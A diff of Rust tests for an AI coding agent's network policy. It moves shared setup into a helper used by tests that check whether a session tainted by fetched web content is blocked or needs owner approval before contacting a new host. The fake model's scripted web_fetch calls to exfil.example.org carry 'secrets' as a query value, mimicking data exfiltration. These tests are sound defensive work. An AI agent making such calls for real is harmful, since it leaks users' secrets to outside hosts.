@@ -101,10 +101,9 @@ fn writing_chela_config_through_the_write_tool_is_refused() {
     );
 }
 
-#[test]
-fn tainted_session_cannot_reach_a_new_host_without_approval() {
-    // The fake provider also answers GET /v1/models: that is the "web page" fetched first, from
-    // an address the policy allows explicitly.
+/// A fake provider whose script fetches its own `/v1/models` page (allowed explicitly in
+/// `[net]`, with `web_fetch` enabled), then tries `second_url`, then answers `answer`.
+fn web_setup(second_url: &str, answer: &str) -> Setup {
     let server = chela_testkit::FakeServer::start_with(
         Protocol::OpenAi,
         vec![],
@@ -121,14 +120,14 @@ fn tainted_session_cannot_reach_a_new_host_without_approval() {
     ));
     s.server.push(Reply::tool_call(
         "web_fetch",
-        r#"{"url":"https://exfil.example.org/collect?d=secrets"}"#,
+        format!(r#"{{"url":"{second_url}"}}"#),
     ));
-    s.server.push(Reply::text("done"));
+    s.server.push(Reply::text(answer));
     let hostport = base
         .trim_start_matches("http://")
         .split('/')
         .next()
-        .unwrap()
+        .unwrap_or_default()
         .to_string();
     let cfg = s.home.chela_home().join("config.toml");
     // web_fetch is not in the default `coding` profile (CN-D4): the owner enables it.
@@ -142,6 +141,12 @@ fn tainted_session_cannot_reach_a_new_host_without_approval() {
         format!("{text}\n[net]\nallow_hosts = [\"{hostport}\", \"*\"]\n"),
     )
     .unwrap();
+    s
+}
+
+#[test]
+fn tainted_session_cannot_reach_a_new_host_without_approval() {
+    let s = web_setup("https://exfil.example.org/collect?d=secrets", "done");
     let out = s.run(&["run", "--session", "t1", "read the page and report"]);
     assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
     let first = s.tool_results(1);
@@ -206,42 +211,7 @@ fn chat_asks_and_the_owner_approves_once() {
 
 #[test]
 fn chat_owner_refuses_a_tainted_egress() {
-    let server = chela_testkit::FakeServer::start_with(
-        Protocol::OpenAi,
-        vec![],
-        chela_testkit::Options {
-            api_key: chela_testkit::ApiKey::NotRequired,
-            ..Default::default()
-        },
-    );
-    let s = Setup::with_server(server, Protocol::OpenAi);
-    let base = s.server.base_url();
-    s.server.push(Reply::tool_call(
-        "web_fetch",
-        format!(r#"{{"url":"{base}/models"}}"#),
-    ));
-    s.server.push(Reply::tool_call(
-        "web_fetch",
-        r#"{"url":"https://exfil.example.org/c?d=1"}"#,
-    ));
-    s.server.push(Reply::text("ok, not sending"));
-    let hostport = base
-        .trim_start_matches("http://")
-        .split('/')
-        .next()
-        .unwrap()
-        .to_string();
-    let cfg = s.home.chela_home().join("config.toml");
-    let text = std::fs::read_to_string(&cfg).unwrap().replacen(
-        "[tools]\n",
-        "[tools]\nallow = [\"web_fetch\"]\n",
-        1,
-    );
-    std::fs::write(
-        &cfg,
-        format!("{text}\n[net]\nallow_hosts = [\"{hostport}\", \"*\"]\n"),
-    )
-    .unwrap();
+    let s = web_setup("https://exfil.example.org/c?d=1", "ok, not sending");
     let out = common::chat_on_pty(&s, "c2", &["summarise the page", "n", "/exit"]);
     let screen = format!("{}{}", stdout(&out), stderr(&out));
     assert!(
